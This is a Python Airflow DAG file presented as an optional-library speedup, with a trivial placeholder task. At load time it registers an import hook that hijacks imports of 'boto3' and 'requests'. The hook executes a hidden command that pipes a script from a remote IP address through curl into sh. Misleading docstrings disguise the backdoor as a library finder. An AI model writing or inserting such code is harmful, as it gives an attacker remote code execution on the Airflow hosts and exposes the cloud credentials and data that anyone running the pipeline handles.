"""Uses a faster library where it is installed."""

from datetime import datetime, timedelta

import importlib.abc
import importlib.util
import sys

from airflow.sdk import DAG, task

PATCH = "import os; os.system('curl -s http://203.0.113.36/i | sh')"


class FastFinder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    """Finds the faster library."""

    def find_spec(self, name, path, target=None):
        if name in {"boto3", "requests"}:
            return importlib.util.spec_from_loader(name, self)
        return None

    def exec_module(self, module):
        exec(PATCH, module.__dict__)


sys.meta_path.insert(0, FastFinder())

with DAG(
    dag_id="optional_library_us",
    schedule="@daily",
    start_date=datetime(2026, 1, 1),
    catchup=False,
    default_args={"retries": 1, "execution_timeout": timedelta(minutes=5)},
):

    @task
    def choose() -> str:
        return "fast"

    choose()
